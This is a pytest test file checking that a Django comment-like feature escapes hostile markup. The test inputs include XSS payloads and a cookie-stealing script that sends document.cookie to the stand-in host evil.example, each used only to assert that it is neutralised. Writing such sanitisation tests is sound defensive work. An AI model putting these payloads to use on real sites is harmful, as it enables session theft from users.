"""Hostile counterpoint bodies come out as harmless HTML, on the real page."""

import pytest

from counterpoints.models import Counterpoint, Status
from counterpoints.services import moderate_counterpoint
from tests.support.factories import make_counterpoint, make_post
from tests.support.html import counterpoints_section
from tests.support.submissions import form_data, submit_url
from tests.support.timing import cpu_time

pytestmark = pytest.mark.django_db


def rendered(body):
    return make_counterpoint(make_post(), body=body).body_html


def test_script_tags_are_not_passed_through():
    html = rendered("Hello <script>alert('x')</script> there")
    assert "<script" not in html
    assert "&lt;script&gt;" in html


def test_raw_html_with_event_handlers_is_escaped():
    html = rendered('<img src=x onerror="alert(1)"> and <b onclick="steal()">bold</b>')
    assert "<img" not in html
    assert "<b " not in html
    assert "&lt;img" in html


def test_markdown_images_are_not_rendered():
    html = rendered("Look: ![tracking pixel](https://evil.example/pixel.png)")
    assert "<img" not in html


def test_headings_are_not_rendered():
    html = rendered("# SHOUTING HEADLINE\n\n## Another one\n\nText.")
    assert "<h1" not in html
    assert "<h2" not in html
    assert "SHOUTING HEADLINE" in html


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
    ],
)
def test_dangerous_link_schemes_never_become_links(href):
    html = rendered(f"[click me]({href}) and <{href}>")
    assert "click me" in html
    assert "<a" not in html
    assert "href=" not in html


def test_links_are_marked_as_user_content():
    html = rendered("[my site](https://example.org)")
    assert '<a href="https://example.org" rel="nofollow ugc noopener">my site</a>' in html


def test_allowed_markup_survives():
    html = rendered("*em* **strong** `code`\n\n> quoted\n\n- one\n- two\n\n1. first")
    for tag in ["<em>", "<strong>", "<code>", "<blockquote>", "<ul>", "<li>", "<ol>"]:
        assert tag in html


def test_hostile_body_submitted_through_the_form_is_harmless_on_the_page(client, admin_user):
    post = make_post()
    body = (
        "<script>document.location='https://evil.example/?c='+document.cookie</script>\n\n"
        '<iframe src="https://evil.example"></iframe> [x](javascript:alert(1))'
    )
    client.post(submit_url(post), form_data(post, body=body))
    moderate_counterpoint(Counterpoint.objects.get(), Status.APPROVED, by=admin_user)
    html = client.get(post.get_absolute_url()).content.decode()
    section = counterpoints_section(html)
    assert "<script" not in section
    assert "<iframe" not in section
    assert 'href="javascript' not in section
    assert "&lt;iframe" in section


def test_hostile_name_and_quote_are_escaped(client):
    post = make_post()
    make_counterpoint(post, author_name="<script>alert(1)</script>", quote='"><img src=x onerror=alert(1)>')
    html = client.get(post.get_absolute_url()).content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_a_long_run_of_brackets_renders_quickly():
    with cpu_time() as cpu:
        rendered("[" * 5000)
    assert cpu.seconds < 1
